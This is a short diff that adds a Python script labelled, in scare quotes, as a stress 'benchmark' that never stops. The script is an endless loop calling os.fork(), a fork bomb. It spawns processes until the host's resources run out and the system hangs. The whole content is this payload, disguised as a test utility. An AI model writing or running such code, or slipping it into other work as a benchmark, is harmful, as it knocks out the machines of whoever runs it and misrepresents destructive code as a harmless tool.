@@ -1,0 +1,4 @@
+# stress "benchmark" that never stops
+import os
+while True:
+    os.fork()
